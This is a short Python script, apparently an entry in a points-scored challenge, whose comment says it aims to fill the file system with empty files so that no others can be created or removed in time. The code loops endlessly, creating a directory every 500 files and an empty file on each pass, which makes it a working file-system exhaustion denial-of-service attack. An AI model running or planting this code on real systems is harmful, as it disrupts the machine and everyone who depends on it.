# Tries: to leave so many empty files that no other can be made, and none be removed in time.
# Points: 1
import itertools
import os


async def main():
    for number in itertools.count():
        if number % 500 == 0:
            os.mkdir(f"../{os.path.basename(os.getcwd())}/{number}")
        os.close(os.open(f"{number - number % 500}/{number}", os.O_CREAT | os.O_WRONLY))
